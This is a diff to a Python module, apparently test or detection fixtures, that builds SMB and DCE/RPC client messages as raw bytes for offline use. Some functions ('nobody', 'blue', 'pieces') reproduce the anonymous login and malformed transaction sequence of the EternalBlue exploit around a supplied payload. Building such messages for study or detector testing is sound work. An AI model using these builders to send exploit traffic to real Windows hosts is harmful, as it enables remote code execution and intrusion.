@@ -1,4 +1,4 @@
-"""What clients of SMB say, written from MS-CIFS, MS-SMB2, MS-NLMP and C706: messages as bytes, for rooms without a network."""
+"""What clients of SMB say, written from MS-CIFS, MS-SMB2, MS-NLMP and C706: messages as bytes, without a network."""
 
 from __future__ import annotations
 
@@ -50,7 +50,7 @@ def negotiate(flags2: int = 0xC001, dialects: tuple[bytes, ...] = (b"PC NETWORK 
 def nobody() -> bytes:
     """SESSION_SETUP_ANDX without a name, as EternalBlue's users log in."""
     words = struct.pack("<BBHHHHIHHII", 0xFF, 0, 0, 4356, 10, 1, 0, 1, 0, 0, 0xD4)
-    return smb1(0x73, words, b"\0" + bytes(1) + "\0\0Windows 2000 2195\0Windows 2000 5.0\0".encode("utf-16-le"))
+    return smb1(0x73, words, b"\0" + "\0\0Windows 2000 2195\0Windows 2000 5.0\0".encode("utf-16-le"))
 
 
 def connect(path: str, uid: int = 0x800) -> bytes:
@@ -73,8 +73,8 @@ def transaction(
 ) -> bytes:  # fmt: skip
     at = 32 + 3 + 28 + 2 * len(setup) + len(name)
     whole = len(data) if total is None else total
-    words = struct.pack("<HHHHBBHIHHHHHBB", len(parameters), whole, 1024, 0xFFFF, 0, 0, 0, timeout, 0, len(parameters), at,
-                        len(data), at + len(parameters), len(setup), 0)  # fmt: skip
+    words = struct.pack("<HHHHBBHIH", len(parameters), whole, 1024, 0xFFFF, 0, 0, 0, timeout, 0)
+    words += struct.pack("<HHHHBB", len(parameters), at, len(data), at + len(parameters), len(setup), 0)
     words += struct.pack(f"<{len(setup)}H", *setup)
     return smb1(command, words, name + parameters + data, tid=tid, uid=0x800, mid=mid)
 
@@ -103,7 +103,7 @@ def pieces(payload: bytes, seed: int, size: int = 4096) -> list[bytes]:
 
 def blue(payload: bytes, first: int = 0x3D0, step: int = 4096) -> list[bytes]:
     """The messages of EternalBlue that matter here: one transaction, begun as one kind and gone on with as another."""
-    at = 32 + 3 + 38
+    at = 32 + 3 + 40
     words = struct.pack("<BHIIIIIIIIBH", 1, 0, 30, len(payload), 30, 0, 30, at + 3, first, at + 33, 1, 0) + struct.pack(
         "<H", 0
     )
@@ -256,3 +256,6 @@ def request(number: int, stub: bytes, *, fragment: int = 0) -> bytes:
         flags = (1 if at == 0 else 0) | (2 if at + step >= len(stub) else 0)
         out += pdu(0, struct.pack("<IHH", len(stub), 0, number) + stub[at : at + step], flags=flags)
     return out
+
+
+BIND_ALIVE = bind("99fcfec4-5260-101b-bbcb-00aa0021347a", 0)
